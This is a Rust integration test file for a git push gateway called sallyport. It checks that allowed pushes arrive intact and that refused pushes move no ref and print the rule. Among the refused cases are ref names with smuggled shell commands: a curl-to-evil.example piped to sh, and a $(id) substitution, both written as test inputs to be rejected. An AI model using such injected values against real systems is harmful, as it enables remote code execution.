//! Real git pushes, over both versions of HTTP. An allowed push arrives as git means it. A refused push moves no ref
//! and leaves no object, and git prints the reason.

mod wire;

use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::sync::OnceLock;
use test_support::gateway::NO_CREDENTIAL_BUT_GITHUB;
use test_support::upstream::{HOSTS, git};
use test_support::{Gateway, Git, Rig, Sandbox, Worktree, gateway, skip};

fn rig() -> &'static Rig {
    static RIG: OnceLock<Rig> = OnceLock::new();
    RIG.get_or_init(Rig::start)
}

fn worktree<'a>(sandbox: &'a Sandbox, git: &Git, record: Value) -> Worktree<'a> {
    Worktree::new(&rig().upstream, &rig().gateway, sandbox, git, record)
}

/// A push that passes. `before` and `push` run in a fresh clone (`Worktree::sh`).
struct Allowed {
    before: &'static str,
    push: &'static str,
    /// Refs at the server, and the revisions of the clone that they then equal. Empty: the push changes nothing.
    moved: &'static [(&'static str, &'static str)],
}

const X: &str = "refs/heads/sandbox/x";
const ALLOWED: &[Allowed] = &[
    Allowed { before: "first", push: "git push -u origin sandbox/x", moved: &[(X, "HEAD")] },
    Allowed { before: "pushed; change two", push: "git push origin sandbox/x", moved: &[(X, "HEAD")] },
    Allowed {
        before: "pushed; git checkout -qb side main; change two; git checkout -q sandbox/x; git merge -q side",
        push: "git push origin sandbox/x",
        moved: &[(X, "HEAD")],
    },
    // Packs without objects.
    Allowed { before: "", push: "git push origin main:refs/heads/sandbox/x", moved: &[(X, "main")] },
    Allowed {
        before: "git push -q origin main:refs/heads/sandbox/x; grow refs/heads/main; git pull -q",
        push: "git push origin main:sandbox/x",
        moved: &[(X, "origin/main")],
    },
    Allowed {
        before: "git tag sandbox/v1",
        push: "git push origin sandbox/v1",
        moved: &[("refs/tags/sandbox/v1", "main")],
    },
    Allowed {
        before: "git tag -am one sandbox/v1",
        push: "git push origin sandbox/v1",
        moved: &[("refs/tags/sandbox/v1", "sandbox/v1")],
    },
    Allowed {
        before: "pushed; change two; git branch sandbox/y; git tag sandbox/v1 HEAD~1",
        push: "git push origin sandbox/x sandbox/y sandbox/v1",
        moved: &[(X, "HEAD"), ("refs/heads/sandbox/y", "HEAD"), ("refs/tags/sandbox/v1", "HEAD~1")],
    },
    Allowed {
        before: "first; git branch sandbox/y",
        push: "git push --atomic origin sandbox/x sandbox/y",
        moved: &[(X, "HEAD"), ("refs/heads/sandbox/y", "HEAD")],
    },
    Allowed {
        before: "first; server config receive.certNonceSeed seed",
        push: "git push --signed=if-asked origin sandbox/x",
        moved: &[(X, "HEAD")],
    },
    Allowed {
        before: "grow refs/heads/main; git fetch -q --depth 1; git reset -q --hard origin/main; test -s .git/shallow; first",
        push: "git push origin sandbox/x",
        moved: &[(X, "HEAD")],
    },
    Allowed { before: "first", push: "git -c push.negotiate=true push origin sandbox/x", moved: &[(X, "HEAD")] },
    Allowed { before: "first", push: "git -c protocol.version=0 push origin sandbox/x", moved: &[(X, "HEAD")] },
    Allowed {
        before: "pushed; change two",
        push: "git -c protocol.version=1 push origin sandbox/x",
        moved: &[(X, "HEAD")],
    },
    Allowed {
        before: "pushed; change two",
        push: "git push --force-with-lease origin sandbox/x",
        moved: &[(X, "HEAD")],
    },
    // An own branch. Only GitHub can prove the descent, since the pack lacks the commits.
    Allowed {
        before: "pushed; grow refs/heads/sandbox/x; git pull -q origin sandbox/x; grow refs/heads/sandbox/x; git fetch -q; change two; git merge -q origin/sandbox/x",
        push: "git push origin sandbox/x",
        moved: &[(X, "HEAD")],
    },
    Allowed { before: "pushed", push: "git push origin sandbox/x", moved: &[] },
    Allowed { before: "first", push: "git push --dry-run origin sandbox/x", moved: &[] },
];
/// Above http.postBuffer: a probe first, then a body of unknown length.
const ALLOWED_LARGE: &[Allowed] = &[
    Allowed { before: "pushed; random 3000000", push: "git push origin sandbox/x", moved: &[(X, "HEAD")] },
    Allowed { before: "first; huge", push: "git push origin sandbox/x", moved: &[(X, "HEAD")] },
];

impl Allowed {
    fn check(&self, sandbox: &Sandbox, client: &Git) {
        let Self { before, push, moved } = self;
        let told = format!("{client:?}: {before}: {push}");
        let place = worktree(sandbox, client, json!({}));
        place.sh(before).success();
        let refs = place.refs();
        let requests = place.arrived(&rig().upstream).len();

        let pushed = place.sh(push);
        assert_eq!(pushed.code, Some(0), "{told}: {}", pushed.stderr);
        assert!(!pushed.stderr.contains("sallyport"), "{told}: {}", pushed.stderr);

        let mut expected = refs.clone();
        expected.extend(moved.iter().map(|(name, revision)| ((*name).to_owned(), place.revision(revision))));
        assert_eq!(place.refs(), expected, "{told}");
        git(&place.bare, &["fsck", "--connectivity-only"]);
        let arrived = place.arrived(&rig().upstream).split_off(requests);
        assert_eq!(arrived.len(), usize::from(!moved.is_empty()), "{told}: {arrived:?}");
        if moved.is_empty() {
            return;
        }
        let update = |(name, new): (&str, &String)| {
            let old = refs.get(name);
            json!({"ref": name, "old": old, "new": new, "kind": if old.is_some() { "update" } else { "create" }})
        };
        let updates = moved.iter().map(|(name, _)| update((name, &expected[*name]))).collect::<Vec<_>>();
        let line = place.audit_line(&rig().gateway, |line| sorted(&line["updates"]) == sorted(&updates.clone().into()));
        assert_eq!((&line["verdict"], &line["repo"]), (&"allow".into(), &place.repo.as_str().into()), "{told}: {line}");
        let size = line["pack_bytes"].as_u64().unwrap();
        assert!((32..arrived[0].body_bytes).contains(&size), "{told}: {line} {arrived:?}");
        assert!(line["commits"].is_u64(), "{told}: {line}");
    }
}

/// The updates of an audit line, sorted.
fn sorted(updates: &Value) -> BTreeSet<String> {
    updates.as_array().into_iter().flatten().map(Value::to_string).collect()
}

#[test]
fn what_is_allowed_arrives_as_git_means_it() {
    let sandbox = rig().sandbox();
    if Git::all().iter().all(|client| client.libcurl().display().to_string().contains("gnutls")) {
        skip("pushes by a git that speaks TLS by OpenSSL", "every git on this machine has GnuTLS");
    }
    Git::all().iter().for_each(|client| ALLOWED.iter().for_each(|case| case.check(&sandbox, client)));
}

/// A push that is refused.
struct Refused {
    before: &'static str,
    push: &'static str,
    rule: &'static str,
    /// The texts that git prints beside the rule.
    says: &'static [&'static str],
    /// Its ref names decide, so that no byte may reach the server.
    by_name: bool,
}

const BY_CONTENT: Refused = Refused { before: "", push: "", rule: "push.force", says: &[NOT_FORWARD], by_name: false };
const BY_NAME: Refused = Refused { by_name: true, says: &[], ..BY_CONTENT };
const NOT_FORWARD: &str =
    "is not a fast-forward; fetch and merge, or else: branches that would work: sandbox/*, bot/*)";
const X_REJECTED: &str = "! [remote rejected] sandbox/x -> sandbox/x (";
const REFUSED: &[Refused] = &[
    Refused {
        before: "pushed; git commit -q --amend -m other",
        push: "git push --force origin sandbox/x",
        says: &[X_REJECTED, NOT_FORWARD],
        ..BY_CONTENT
    },
    Refused {
        before: "pushed; git checkout -q main; change two; git checkout -q sandbox/x; git rebase -q main",
        push: "git push origin +sandbox/x",
        ..BY_CONTENT
    },
    Refused {
        before: "pushed; git commit -q --amend -m other",
        push: "git push --force-with-lease origin sandbox/x",
        ..BY_CONTENT
    },
    // The pack is empty, so only GitHub can prove the descent.
    Refused {
        before: "pushed; change two; git push -q origin sandbox/x",
        push: "git push -f origin HEAD~1:sandbox/x",
        says: &["! [remote rejected] HEAD~1 -> sandbox/x (", NOT_FORWARD],
        ..BY_CONTENT
    },
    Refused {
        before: "pushed; git checkout -q --orphan new; change two",
        push: "git push -f origin new:sandbox/x",
        ..BY_CONTENT
    },
    Refused {
        before: "pushed; git branch sandbox/y; git commit -q --amend -m other",
        push: "git push -f origin sandbox/x sandbox/y",
        says: &[
            X_REJECTED,
            NOT_FORWARD,
            "! [remote rejected] sandbox/y -> sandbox/y (not pushed, because refs/heads/sandbox/x was refused)",
        ],
        ..BY_CONTENT
    },
    Refused {
        before: "change one",
        push: "git push origin main",
        rule: "push.protected",
        says: &["! [remote rejected] main -> main (main is protected; branches that would work: sandbox/*, bot/*)"],
        ..BY_NAME
    },
    Refused { before: "first", push: "git push -f origin HEAD:refs/heads/Main", rule: "push.protected", ..BY_NAME },
    Refused {
        before: "git checkout -qb feature; change one",
        push: "git push origin feature",
        rule: "push.branch",
        says: &[
            "remote: sallyport: refs/heads/feature: feature is not one of this container's branches",
            "! [remote rejected] feature -> feature (",
            "branches that would work: sandbox/*, bot/*)",
        ],
        ..BY_NAME
    },
    Refused {
        before: "pushed",
        push: "git push origin :sandbox/x",
        rule: "push.delete",
        says: &[
            "! [remote rejected] sandbox/x (sandbox/x may not be deleted, nor any other; for other commits: branches",
            "branches that would work: sandbox/*, bot/*)",
        ],
        ..BY_NAME
    },
    Refused { before: "", push: "git push --delete origin main", rule: "push.protected", ..BY_NAME },
    Refused {
        before: "git tag sandbox/v1; git push -q origin sandbox/v1; change one; git tag -f sandbox/v1",
        push: "git push -f origin sandbox/v1",
        rule: "push.tag",
        says: &[
            "! [remote rejected] sandbox/v1 -> sandbox/v1 (the tag sandbox/v1 exists, and a tag is not moved; names",
            "names that would work for a new one: sandbox/*, bot/*)",
        ],
        ..BY_NAME
    },
    Refused { before: "git tag v1", push: "git push origin v1", rule: "push.branch", ..BY_NAME },
    Refused {
        before: "first",
        push: "git push origin 'HEAD:refs/heads/sandbox/x\";curl${IFS}evil.example|sh;#'",
        rule: "push.new-name",
        says: &["has '\"'; a new branch or tag of a bot has letters, digits and ._/+@=- only"],
        ..BY_NAME
    },
    Refused {
        before: "first; git tag 'sandbox/$(id)'",
        push: "git push origin 'sandbox/$(id)'",
        rule: "push.new-name",
        ..BY_NAME
    },
    Refused {
        before: "first",
        push: "git push origin HEAD:refs/notes/x",
        rule: "push.ref",
        says: &["! [remote rejected] HEAD -> refs/notes/x ("],
        ..BY_NAME
    },
    Refused {
        before: "first",
        push: "git push origin HEAD:refs/heads/sandbox/y HEAD:refs/heads/main",
        rule: "push.protected",
        says: &["! [remote rejected] HEAD -> sandbox/y (not pushed, because refs/heads/main was refused)"],
        ..BY_NAME
    },
    Refused {
        before: "first",
        push: "git push --atomic origin sandbox/x HEAD:refs/heads/feature",
        rule: "push.branch",
        says: &[X_REJECTED],
        ..BY_NAME
    },
    Refused {
        before: "first; git fetch -q",
        push: "git push --mirror origin",
        rule: "push.ref",
        says: &["refs/remotes/origin/main"],
        ..BY_NAME
    },
    Refused {
        before: "for i in $(seq 21); do git branch sandbox/$i; done",
        push: "git push origin 'refs/heads/sandbox/*'",
        rule: "push.limit",
        says: &["remote: sallyport: a push may have 20 refs; push fewer at a time"],
        ..BY_NAME
    },
];
const REFUSED_LARGE: &[Refused] = &[
    Refused {
        before: "pushed; random 3000000; git commit -q --amend -m other; git reset -q --soft main; git commit -qm other",
        push: "git push -f origin sandbox/x",
        says: &[X_REJECTED, NOT_FORWARD],
        ..BY_CONTENT
    },
    Refused {
        before: "pushed; git checkout -qB sandbox/x main; huge",
        push: "git push -f origin sandbox/x",
        says: &[X_REJECTED, NOT_FORWARD],
        ..BY_CONTENT
    },
    Refused { before: "huge", push: "git push origin main", rule: "push.protected", ..BY_NAME },
];

impl Refused {
    fn check(&self, sandbox: &Sandbox, client: &Git) {
        let Self { before, push, rule, says, by_name } = self;
        let told = format!("{client:?}: {before}: {push}");
        let place = worktree(sandbox, client, json!({}));
        place.sh(before).success();
        place.settled();
        let (refs, objects) = (place.refs(), place.objects());
        let requests = place.arrived(&rig().upstream).len();

        let pushed = place.sh(push);
        assert_eq!(pushed.code, Some(1), "{told}: {}", pushed.stderr);
        let rule_said = format!("remote: sallyport: push refused (rule {rule})");
        for text in says.iter().chain([&rule_said.as_str(), &"! [remote rejected] "]) {
            assert!(pushed.stderr.contains(text), "{told}: {text} is not in {}", pushed.stderr);
        }

        place.settled();
        assert_eq!((place.refs(), place.objects()), (refs, objects), "{told}");
        git(&place.bare, &["fsck", "--connectivity-only"]);
        let arrived = place.arrived(&rig().upstream).split_off(requests);
        assert!(!by_name || arrived.is_empty(), "{told}: {arrived:?}");
        let line = place.audit_line(&rig().gateway, |line| line["verdict"] == "deny" && line["rule"] == *rule);
        assert_eq!((&line["stage"], &line["repo"]), (&"push".into(), &place.repo.as_str().into()), "{told}: {line}");
        assert_ne!(line["updates"], json!([]), "{told}: {line}");
        let id = format!("remote: sallyport: request id {}", line["request_id"].as_str().unwrap());
        assert!(pushed.stderr.contains(&id), "{told}: {id} is not in {}", pushed.stderr);
    }
}

#[test]
fn what_is_refused_moves_nothing_and_git_prints_why() {
    let sandbox = rig().sandbox();
    Git::all().iter().for_each(|client| REFUSED.iter().for_each(|case| case.check(&sandbox, client)));
}

#[test]
fn large_pushes_are_the_same() {
    let sandbox = rig().sandbox();
    for client in Git::all() {
        if client.breaks_large_pushes() {
            skip(&format!("large pushes by {} over HTTP/2", client.program), "libcurl 7.88.1 breaks them by itself");
            continue;
        }
        ALLOWED_LARGE.iter().for_each(|case| case.check(&sandbox, &client));
        REFUSED_LARGE.iter().for_each(|case| case.check(&sandbox, &client));
    }
}

/// A hook of git that runs between the server's list of refs and the push.
fn meanwhile(script: &str) -> String {
    format!("printf '%s\\n' '#!/bin/sh' '{script}' >.git/hooks/pre-push; chmod +x .git/hooks/pre-push;")
}

#[test]
fn a_ref_that_moves_in_between_is_stale() {
    let sandbox = rig().sandbox();
    let grow = r#"git --git-dir="$BARE" update-ref refs/heads/sandbox/x "$(git --git-dir="$BARE" commit-tree -p main -m grown "main^{tree}")""#;
    let delete = r#"git --git-dir="$BARE" update-ref -d refs/heads/sandbox/x"#;
    for client in Git::all() {
        for (before, hook, push, says) in [
            ("pushed; change two", grow, "git push origin sandbox/x", "now; fetch, and push again)"),
            (
                "pushed; change two",
                delete,
                "git push origin sandbox/x",
                "it does not exist any more; fetch, and push again)",
            ),
            ("first", grow, "git push origin sandbox/x", "now; fetch, and push again)"),
        ] {
            let place = worktree(&sandbox, &client, json!({}));
            place.sh(&format!("{before}; {}", meanwhile(hook))).success();
            let pushed = place.sh(push);
            let told = format!("{client:?}: {before}: {hook}: {}", pushed.stderr);
            assert_eq!(pushed.code, Some(1), "{told}");
            for text in ["remote: sallyport: push refused (rule push.stale)", X_REJECTED, says] {
                assert!(pushed.stderr.contains(text), "{told}");
            }
            let new = place.revision("HEAD");
            place.settled();
            assert!(!place.refs().values().any(|at| *at == new) && !place.objects().contains(&new), "{told}");
            place.audit_line(&rig().gateway, |line| line["rule"] == "push.stale" && line["verdict"] == "deny");
        }
    }
}

/// Checks that a push from `place` ends with this code and, if refused, prints these texts.
fn assert_push(place: &Worktree<'_>, push: &str, code: i32, says: &[&str]) {
    let pushed = place.sh(push);
    assert_eq!(pushed.code, Some(code), "{push}: {}", pushed.stderr);
    says.iter().for_each(|text| assert!(pushed.stderr.contains(text), "{push}: {}", pushed.stderr));
}

#[test]
fn a_person_s_container_pushes_every_branch_but_the_protected_ones() {
    let sandbox = rig().sandbox();
    let client = &Git::all()[0];
    let place = worktree(&sandbox, client, json!({"auth_mode": "user"}));
    place.sh("git checkout -qb feature; change one").success();
    assert_push(&place, "git push origin feature", 0, &[]);
    assert_push(&place, "change two; git push origin feature", 0, &[]);
    let at = place.refs();
    assert_eq!(at["refs/heads/feature"], place.revision("HEAD"));
    assert_push(&place, "git commit -q --amend -m other; git push -f origin feature", 1, &["(rule push.force)"]);
    let main = ["(rule push.protected)", "(main is protected; push another branch and open a pull request)"];
    assert_push(&place, "git push origin feature:main", 1, &main);
    assert_push(&place, "git push origin :feature", 1, &["(rule push.delete)"]);
    assert_eq!(place.refs(), at);
}

#[test]
fn force_on_own_branches_is_force_on_those_alone() {
    let sandbox = rig().sandbox();
    let client = &Git::all()[0];
    let record = json!({"auth_mode": "user", "allowed_branches": ["sandbox/*"], "force_own_branches": true});
    let place = worktree(&sandbox, client, record);
    place.sh("pushed; git push -q origin HEAD:refs/heads/feature; git commit -q --amend -m other").success();
    assert_push(&place, "git push -f origin sandbox/x", 0, &[]);
    assert_eq!(place.refs()[X], place.revision("HEAD"));
    let at = place.refs();
    assert_push(&place, "git push -f origin HEAD:feature", 1, &["(rule push.force)"]);
    assert_push(&place, "git push origin :sandbox/x", 1, &["(rule push.delete)"]);
    assert_eq!(place.refs(), at);
}

#[test]
fn the_policy_lets_force_and_deletion_and_says_how_refusals_are_told() {
    let policy = format!(
        "{}policy: {{allow_force_push: true, allow_branch_deletion: true}}\ngithub: {{push_refusal: http, push_options: [ci.skip]}}\n",
        gateway::policy(&HOSTS)
    );
    let gateway = Gateway::with(&policy).settings(NO_CREDENTIAL_BUT_GITHUB).upstream(&rig().upstream).up();
    let sandbox = Sandbox::start().behind(&gateway);
    let place = Worktree::new(&rig().upstream, &gateway, &sandbox, &Git::all()[0], json!({}));
    place.sh("pushed; git commit -q --amend -m other").success();
    assert_push(&place, "git push -f origin sandbox/x", 0, &[]);
    assert_eq!(place.refs()[X], place.revision("HEAD"));
    place.sh("server config receive.advertisePushOptions true").success();
    assert_push(&place, "change three; git push -o ci.skip origin sandbox/x", 0, &[]);
    assert_eq!(place.refs()[X], place.revision("HEAD"));
    assert_push(&place, "change four; git push -o ci.skip -o topic=x origin sandbox/x", 1, &["HTTP 403"]);
    place.audit_line(&gateway, |line| line["rule"] == "push.option");
    let at = place.refs();
    assert_push(&place, "git push -f origin HEAD:main", 1, &["HTTP 403"]);
    assert_push(&place, "git tag sandbox/v1; git push -q origin sandbox/v1", 0, &[]);
    assert_push(&place, "git tag -f sandbox/v1 main; git push -f origin sandbox/v1", 1, &["HTTP 403"]);
    assert_push(&place, "git push origin :sandbox/x", 0, &[]);
    assert_eq!(place.refs().get("refs/heads/main"), at.get("refs/heads/main"));
    assert!(!place.refs().contains_key(X));
    place.audit_line(&gateway, |line| line["rule"] == "push.tag" && line["status"] == 403);
}
